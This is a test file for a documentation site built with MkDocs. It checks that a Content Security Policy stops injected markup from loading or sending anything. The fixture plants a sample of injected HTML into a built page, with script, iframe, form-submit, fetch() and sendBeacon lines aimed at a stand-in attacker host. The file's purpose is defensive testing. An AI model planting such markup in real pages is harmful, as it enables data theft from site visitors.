"""The last line: what slipped into a built page all the same loads nothing from elsewhere and sends nothing there."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator

import pytest
from playwright.sync_api import Route, sync_playwright

from tests.conftest import PROJECT, Handbook
from tests.serving import serving
from tests.site.building import HANDBOOK

SLIPPED = """
<img src="https://evil.invalid/a.png"><script src="https://evil.invalid/a.js"></script>
<link rel="stylesheet" href="https://evil.invalid/a.css"><iframe src="https://evil.invalid/"></iframe>
<object data="https://evil.invalid/a"></object><base href="https://evil.invalid/">
<form action="https://evil.invalid/" id="slipped"><input name="a" value="b"></form>
<script>fetch("https://evil.invalid/fetched").catch(() => 0); navigator.sendBeacon("https://evil.invalid/beacon");
document.getElementById("slipped").submit();</script>
"""


@pytest.fixture
def site(handbook: Handbook) -> Iterator[str]:
    """The tiny handbook in the shipped frame, with a home page that was broken into after the build."""
    settings = handbook.read("mkdocs.yml").replace(
        "  name: material\n", f"  name: material\n  custom_dir: {PROJECT / 'overrides'}\n"
    )
    handbook.write("mkdocs.yml", settings)
    subprocess.run([HANDBOOK, "build"], cwd=handbook.root, check=True, capture_output=True)
    page = handbook.read("site/index.html")
    handbook.write("site/index.html", page.replace("</article>", f"{SLIPPED}</article>"))
    with serving(handbook.root / "site") as address:
        yield address


def test_nothing_leaves(site: str) -> None:
    sent: list[str] = []
    refused: list[str] = []

    def away(route: Route) -> None:
        sent.append(route.request.url)
        route.abort()

    with sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox", "--disable-gpu"])
        page = browser.new_page()
        page.route("**/evil.invalid/**", away)
        page.on("console", lambda said: refused.append(said.text) if "Content Security Policy" in said.text else None)
        page.goto(site, wait_until="commit")
        page.wait_for_timeout(2000)
        assert page.url == site
        browser.close()
    assert sent == []
    assert len(refused) >= 7


@pytest.mark.parametrize("name", ["index.html", "404.html", "standards/branch/party-lecture/index.html"])
def test_every_page_has_the_policy(site: str, handbook: Handbook, name: str) -> None:
    head = handbook.read(f"site/{name}").split("</head>")[0]
    policy = head.index("Content-Security-Policy")
    assert "object-src 'none'; base-uri 'self'; form-action 'self'" in head[policy : policy + 250]
    assert "<script" not in head[:policy] and "stylesheet" not in head[:policy]
